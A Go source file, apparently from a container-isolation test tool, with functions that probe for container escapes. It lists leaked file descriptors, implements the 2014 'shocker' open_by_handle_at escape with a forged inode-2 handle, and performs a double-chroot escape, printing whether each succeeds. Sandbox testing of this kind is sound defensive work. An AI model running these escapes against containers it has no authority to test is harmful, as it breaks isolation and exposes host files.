package main

import (
	"encoding/binary"
	"fmt"
	"os"
	"strconv"

	"golang.org/x/sys/unix"
)

// fds lists this process's open descriptors with what they point to: a
// runtime that leaks one of its own (a host directory, a state file) hands
// the container a way out (CVE-2016-9962, CVE-2024-21626).
// It reads the directory with raw system calls: os.Open would add the Go
// runtime's own epoll descriptors to the list.
func fds() error {
	dir, err := unix.Open("/proc/self/fd", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(dir)
	buf := make([]byte, 8192)
	n, err := unix.Getdents(dir, buf)
	if err != nil {
		return err
	}
	_, _, names := unix.ParseDirent(buf[:n], -1, nil)
	own := strconv.Itoa(dir)
	for _, n := range names {
		if n == own {
			continue
		}
		target, err := os.Readlink("/proc/self/fd/" + n)
		if err != nil {
			target = "? (" + errno(err) + ")"
		}
		fmt.Printf("fd %s -> %s\n", n, target)
	}
	return nil
}

// shocker is the 2014 Docker escape: open_by_handle_at on any file of the
// host's file system that is mounted into the container (a bind-mounted
// file) with a forged handle for inode 2, the root directory of ext2/3/4,
// opens the host's root directory. Only CAP_DAC_READ_SEARCH allows it.
func shocker(args []string) error {
	mnt, err := unix.Open(args[0], unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(mnt)
	raw := make([]byte, 8) // FILEID_INO32_GEN: inode 2, generation 0
	binary.LittleEndian.PutUint32(raw, 2)
	h := unix.NewFileHandle(1, raw)
	fd, err := unix.OpenByHandleAt(mnt, h, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC)
	if err != nil {
		fmt.Printf("open_by_handle_at inode 2 via %s: %s\n", args[0], errno(err))
		return err
	}
	defer unix.Close(fd)
	names, _ := os.NewFile(uintptr(fd), "root").Readdirnames(20)
	fmt.Printf("open_by_handle_at inode 2 via %s: OK: %v\n", args[0], names)
	return nil
}

// chrootEscape is the classic way out of a chroot: chroot into a
// subdirectory while keeping the working directory outside it, climb with
// "..", and chroot there. In a container whose old root was pivoted away
// and detached it ends at the container's own root; it then reports
// whether PATH (a host-only file) exists.
func chrootEscape(args []string) error {
	if err := os.MkdirAll("/tmp/chroot-escape", 0o755); err != nil {
		return err
	}
	if err := unix.Chdir("/"); err != nil {
		return err
	}
	if err := unix.Chroot("/tmp/chroot-escape"); err != nil {
		fmt.Printf("chroot: %s\n", errno(err))
		return err
	}
	for i := 0; i < 64; i++ {
		_ = unix.Chdir("..")
	}
	if err := unix.Chroot("."); err != nil {
		fmt.Printf("chroot .: %s\n", errno(err))
		return err
	}
	if _, err := os.Stat(args[0]); err == nil {
		fmt.Printf("after the escape %s exists: OK\n", args[0])
		return nil
	}
	fmt.Printf("after the escape %s does not exist\n", args[0])
	return nil
}
